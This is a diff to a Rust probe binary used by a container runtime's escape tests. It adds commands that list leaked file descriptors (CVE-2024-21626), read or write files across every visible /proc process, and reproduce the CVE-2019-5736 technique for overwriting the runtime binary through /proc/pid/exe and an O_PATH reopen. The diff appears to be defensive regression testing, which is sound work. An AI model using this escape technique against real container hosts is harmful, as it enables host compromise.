@@ -8,6 +8,7 @@
 //! with it), passes arguments the kernel rejects only *after* its permission
 //! checks, or undoes what it did (closing fds, unlinking files).
 
+use std::collections::BTreeSet;
 use std::ffi::{CString, OsStr, OsString};
 use std::fmt::Write as _;
 use std::fs::{File, OpenOptions};
@@ -20,7 +21,8 @@ use std::ptr;
 use std::time::{Duration, Instant};
 
 const USAGE: &str = "usage: probe [report | sleep [SECS] | exit CODE | write PATH TEXT | cat PATH \
-                     | stat PATH | env | echo ARGS...]";
+                     | stat PATH | env | echo ARGS... | fds PID | read-each PATH... \
+                     | write-each TEXT PATH... | exe-attack SECS]";
 
 /// runc's default masked paths (the OCI `linux.maskedPaths` it generates).
 const MASKED_PATHS: &[&str] = &[
@@ -66,6 +68,10 @@ fn main() -> ExitCode {
         Some("stat") if rest.len() == 1 => cmd_stat(&rest[0]),
         Some("env") if rest.is_empty() => cmd_env(),
         Some("echo") => cmd_echo(rest),
+        Some("fds") if rest.len() == 1 => cmd_fds(&rest[0]),
+        Some("read-each") if !rest.is_empty() => cmd_read_each(rest),
+        Some("write-each") if rest.len() >= 2 => cmd_write_each(&rest[0], &rest[1..]),
+        Some("exe-attack") if rest.len() == 1 => cmd_exe_attack(&rest[0]),
         _ => Err(Failure::Usage),
     };
     match result {
@@ -231,6 +237,230 @@ fn print_line(bytes: &[u8]) -> Result<(), Failure> {
     out.write_all(b"\n")?;
     out.flush()?;
     Ok(())
+}
+
+// ---------------------------------------------------------------------------
+// Escape attempts (tests/escapes.rs). Each prints one JSON line saying what the
+// kernel answered, so a test can assert on the errno from inside the container.
+
+/// `fds PID`: the open fds of /proc/PID (`self` works too) and where they point, to
+/// find fds leaked from the runtime into a container (CVE-2024-21626).
+fn cmd_fds(pid: &OsStr) -> Result<(), Failure> {
+    let dir = format!("/proc/{}/fd", pid.to_string_lossy());
+    let mut fds = Vec::new();
+    for entry in std::fs::read_dir(&dir)? {
+        let name = entry?.file_name();
+        let Some(fd) = name.to_str().and_then(|n| n.parse::<i64>().ok()) else {
+            continue;
+        };
+        let target = match std::fs::read_link(format!("{dir}/{fd}")) {
+            Ok(t) => t.to_string_lossy().into_owned(),
+            Err(e) => format!("error:{}", io_errno_name(&e)),
+        };
+        fds.push(Json::obj([
+            ("fd", Json::Int(fd)),
+            ("target", Json::str(target)),
+        ]));
+    }
+    let json = Json::obj([
+        ("pid", Json::str(pid.to_string_lossy())),
+        ("fds", Json::Arr(fds)),
+    ]);
+    print_line(json.to_string().as_bytes())
+}
+
+/// Expands `{pid}` in a path to every process visible in /proc (except this one).
+fn expand_pids(path: &str) -> Vec<String> {
+    if !path.contains("{pid}") {
+        return vec![path.to_owned()];
+    }
+    visible_pids()
+        .into_iter()
+        .map(|pid| path.replace("{pid}", &pid.to_string()))
+        .collect()
+}
+
+fn visible_pids() -> Vec<i32> {
+    // SAFETY: getpid cannot fail.
+    let me = unsafe { libc::getpid() };
+    let Ok(dir) = std::fs::read_dir("/proc") else {
+        return Vec::new();
+    };
+    let mut pids: Vec<i32> = dir
+        .filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
+        .filter(|pid| *pid != me)
+        .collect();
+    pids.sort_unstable();
+    pids
+}
+
+/// `read-each PATH...`: tries to read each path (`{pid}` expands to every visible
+/// process) and reports, per path, "ok" with the content or the errno.
+fn cmd_read_each(paths: &[OsString]) -> Result<(), Failure> {
+    let mut results = Vec::new();
+    for path in paths.iter().flat_map(|p| expand_pids(&p.to_string_lossy())) {
+        let mut content = Vec::new();
+        let result = OpenOptions::new()
+            .read(true)
+            .custom_flags(libc::O_NONBLOCK)
+            .open(&path)
+            .and_then(|f| f.take(64 * 1024).read_to_end(&mut content));
+        let entry = match result {
+            Ok(_) => Json::obj([
+                ("result", Json::str("ok")),
+                ("content", Json::str(String::from_utf8_lossy(&content))),
+            ]),
+            Err(e) => Json::obj([("result", Json::str(io_errno_name(&e)))]),
+        };
+        results.push((path, entry));
+    }
+    print_line(Json::obj(results).to_string().as_bytes())
+}
+
+/// `write-each TEXT PATH...`: opens each existing path write-only (never creating or
+/// truncating it) and writes TEXT; reports "ok" or the errno of the open or write.
+fn cmd_write_each(text: &OsStr, paths: &[OsString]) -> Result<(), Failure> {
+    let mut results = Vec::new();
+    for path in paths.iter().flat_map(|p| expand_pids(&p.to_string_lossy())) {
+        let result = OpenOptions::new()
+            .write(true)
+            .custom_flags(libc::O_NONBLOCK)
+            .open(&path)
+            .and_then(|mut f| f.write_all(text.as_bytes()));
+        let outcome = match result {
+            Ok(()) => "ok".to_owned(),
+            Err(e) => io_errno_name(&e),
+        };
+        results.push((path, Json::str(outcome)));
+    }
+    print_line(Json::obj(results).to_string().as_bytes())
+}
+
+/// What CVE-2019-5736's exploit writes over the runtime binary.
+const EXE_ATTACK_MARKER: &[u8] = b"#!/bin/sh\necho bulwark-probe overwrote the runtime\n";
+
+/// `exe-attack SECS`: CVE-2019-5736. Waits up to SECS for another process to appear
+/// in this pid namespace (the runtime, made to execute itself inside the container
+/// through a `#!/proc/self/exe` script), then does what the exploit did: opens its
+/// /proc/<pid>/exe for writing (ETXTBSY while it runs), keeps an O_PATH handle,
+/// signals readiness by creating /tmp/exe-attack-armed, waits for the process to
+/// exit and reopens the handle through /proc/self/fd for writing, writing over the
+/// binary if the kernel lets it.
+fn cmd_exe_attack(secs: &OsStr) -> Result<(), Failure> {
+    let secs: u64 = secs
+        .to_str()
+        .and_then(|s| s.parse().ok())
+        .ok_or(Failure::Usage)?;
+    let deadline = Instant::now() + Duration::from_secs(secs);
+    let own_exe = std::fs::read_link("/proc/self/exe").ok();
+    // Processes whose exe link this one may not even read (another uid, or not
+    // dumpable): the exploit cannot reach their binary, it keeps looking.
+    let mut unreadable = BTreeSet::new();
+    let found = loop {
+        let candidate = visible_pids().into_iter().find_map(|pid| {
+            match std::fs::read_link(format!("/proc/{pid}/exe")) {
+                // Another probe is not the runtime.
+                Ok(target) if Some(&target) == own_exe.as_ref() => None,
+                Ok(target) => Some((pid, target)),
+                Err(e) => {
+                    if e.raw_os_error() != Some(libc::ENOENT) {
+                        unreadable.insert((pid, io_errno_name(&e)));
+                    }
+                    None
+                }
+            }
+        });
+        if let Some(c) = candidate {
+            break Some(c);
+        }
+        if Instant::now() > deadline {
+            break None;
+        }
+        std::thread::sleep(Duration::from_millis(1));
+    };
+    let unreadable = Json::Arr(
+        unreadable
+            .into_iter()
+            .map(|(pid, errno)| Json::str(format!("{pid}:{errno}")))
+            .collect(),
+    );
+    let Some((pid, exe)) = found else {
+        let json = Json::obj([("found", Json::Int(0)), ("unreadable", unreadable)]);
+        return print_line(json.to_string().as_bytes());
+    };
+    let exe_path = format!("/proc/{pid}/exe");
+    let try_open = |path: &str, flags: libc::c_int| -> (String, Option<File>) {
+        match OpenOptions::new()
+            .custom_flags(flags)
+            .read(flags & libc::O_ACCMODE == libc::O_RDWR)
+            .write(flags & libc::O_ACCMODE != libc::O_RDONLY)
+            .open(path)
+        {
+            Ok(f) => ("ok".into(), Some(f)),
+            Err(e) => (io_errno_name(&e), None),
+        }
+    };
+    let (direct_wronly, _) = try_open(&exe_path, libc::O_WRONLY);
+    let (direct_rdwr, _) = try_open(&exe_path, libc::O_RDWR);
+    let handle = File::open_path(&exe_path);
+    // Tell the test it may let the runtime go.
+    let _ = File::create("/tmp/exe-attack-armed");
+    let exited = loop {
+        if std::fs::metadata(format!("/proc/{pid}")).is_err() {
+            break true;
+        }
+        if Instant::now() > deadline {
+            break false;
+        }
+        std::thread::sleep(Duration::from_millis(5));
+    };
+    let mut fields = vec![
+        ("found", Json::Int(1)),
+        ("pid", Json::Int(pid.into())),
+        ("exe", Json::str(exe.to_string_lossy())),
+        ("unreadable", unreadable),
+        ("direct_wronly", Json::str(direct_wronly)),
+        ("direct_rdwr", Json::str(direct_rdwr)),
+        ("exited", Json::Int(exited.into())),
+    ];
+    match &handle {
+        Err(e) => fields.push(("handle", Json::str(io_errno_name(e)))),
+        Ok(handle) => {
+            fields.push(("handle", Json::str("ok")));
+            let reopen = format!("/proc/self/fd/{}", handle.as_raw_fd());
+            let (rdwr, _) = try_open(&reopen, libc::O_RDWR);
+            fields.push(("reopen_rdwr", Json::str(rdwr)));
+            let (wronly, file) = try_open(&reopen, libc::O_WRONLY);
+            fields.push(("reopen_wronly", Json::str(wronly)));
+            let write = match file {
+                None => "not_opened".to_owned(),
+                Some(mut f) => match f.write_all(EXE_ATTACK_MARKER) {
+                    Ok(()) => "ok".to_owned(),
+                    Err(e) => io_errno_name(&e),
+                },
+            };
+            fields.push(("write", Json::str(write)));
+        }
+    }
+    print_line(Json::obj(fields).to_string().as_bytes())
+}
+
+trait OpenPath: Sized {
+    fn open_path(path: &str) -> io::Result<Self>;
+}
+
+impl OpenPath for File {
+    /// An O_PATH handle: no permission to read or write is needed to hold one.
+    fn open_path(path: &str) -> io::Result<File> {
+        let cpath = CString::new(path).map_err(|_| io::Error::from_raw_os_error(libc::EINVAL))?;
+        // SAFETY: cpath is NUL-terminated and outlives the call.
+        let fd = unsafe { libc::open(cpath.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
+        if fd == -1 {
+            return Err(io::Error::last_os_error());
+        }
+        // SAFETY: open returned a new descriptor that nothing else owns.
+        Ok(unsafe { File::from_raw_fd(fd) })
+    }
 }
 
 // ---------------------------------------------------------------------------
